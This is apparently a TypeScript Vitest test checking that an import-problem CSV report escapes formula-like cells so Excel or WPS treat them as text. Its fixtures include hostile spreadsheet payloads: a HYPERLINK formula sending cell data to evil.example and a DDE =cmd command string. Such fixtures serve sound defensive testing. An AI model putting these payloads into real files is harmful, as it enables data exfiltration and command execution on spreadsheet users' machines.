// The import problem report is a CSV the user opens in Excel or WPS: a file name or a bad value
// that starts like a formula (= + - @) is written as text, not run.
import { describe, expect, it } from 'vitest'
import type { ImportIssue } from '../../../../shared/api/imports'
import { issuesCsv } from './ImportParts'

describe('import problem report CSV', () => {
  it('neutralises formulas in file names, fields, problems and messages', () => {
    const hostile = `=HYPERLINK("http://evil.example/?d="&A1,"点此")`
    const issues: ImportIssue[] = [
      { file: `${hostile}.csv`, row: 2, field: 'name', code: 'not_a_number', params: { value: `=cmd|' /C calc'!A0` } },
      { file: 'villages.csv', row: 3, field: null, code: 'not_a_number', params: { value: '+1+1' } },
      { file: '@SUM(A1).csv', row: null, field: 'code', code: 'not_a_number', params: { value: '-2+3' } },
    ]
    const csv = issuesCsv(
      issues,
      'en',
      ['file', 'row', 'field', 'problem', 'message'],
      (field) => (field === 'code' ? '=code' : field),
      (issue) => String(issue.params.value),
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const cells = csv
      .slice(1)
      .trim()
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.match(/"(?:[^"]|"")*"|[^,]+|(?<=,)(?=,|$)/g) ?? [])
      .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell))
    // No cell a spreadsheet would run: each starts with a quote where it would start with = + - @.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cells).toContain(`'${hostile}.csv`)
    expect(cells).toContain(`'=cmd|' /C calc'!A0`)
    expect(cells).toContain(`'+1+1`)
    expect(cells).toContain(`'=code`)
    expect(cells).toContain(`'@SUM(A1).csv`)
    // Row numbers stay numbers.
    expect(cells).toContain('2')
  })
})
